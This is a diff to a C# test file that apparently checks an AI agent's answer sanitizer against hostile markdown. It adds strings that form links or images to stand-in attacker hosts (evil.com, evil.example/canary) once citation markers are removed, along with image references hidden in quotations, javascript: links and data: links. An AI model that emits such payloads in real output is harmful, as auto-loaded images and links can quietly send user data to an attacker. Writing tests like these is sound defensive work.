@@ -5,6 +5,20 @@ namespace Lectern.Tests.Agent.Answers;
 /// </summary>
 internal static class HostileRecipes
 {
+    /// <summary>
+    /// Harmless as they are; something in them is left out, and what stood on both sides of it must not make an address.
+    /// </summary>
+    public static IReadOnlyList<string> Joined { get; } =
+    [
+        "x <img[]() src=\"https:evil.com/canary\">", "<[]()img src=/canary>", "<[2]img src=\"/canary\">",
+        "<![](z)img src=/canary>",
+        "<script[]() src=canary>", "<https[]():canary>", "<[2]/a href=canary>", "<b[]() style=\"background:url(canary)\">",
+        "canary@[2]evil.com", "//e【2†s】vil.com/canary", "canary@[evil.com](z)", "/[]()/evil.com/canary", "canary@evil.\\[2\\]com",
+        "mailto:canary@[2, 4]evil.com", HostileMarkdown.Known + "[]( )?canary", "known@known.example[]().canary.com",
+        "canary@evil.![q](z)com", "ht[t]()ps://evil.com/canary", "www[]().evil.com/canary", "![x][]()(/canary)",
+        "[x][2]: /canary\n\n![x]",
+    ];
+
     private const string Picture = "![x](//evil.example/?q=canary)";
 
     public static IReadOnlyList<(string Name, string Text)> All { get; } =
@@ -61,6 +75,8 @@ internal static class HostileRecipes
         ("a fence in a list that is none", $"> Item:\n\n\t> x\n\n> 10. y:\n>     ```\n>     {Picture}\n>     ```\n\n{Picture}"),
         ("brackets in brackets", "[![x](//evil.example/canary)](//evil.example/canary)"),
         ("a picture by reference", "![x][y]\n\n[y]: //evil.example/canary"),
+        ("a definition whose address stands in a quotation's next line", "> [x]:\n> /canary\n\n![x]"),
+        ("a definition whose address stands in the next line of a quotation in a list", "- > [x]:\n  > /canary 't'\n\n![x]"),
         ("a script's address", "[x](javascript:canary)"),
         ("data as an address", "[x](data:text/html,canary)"),
     ];
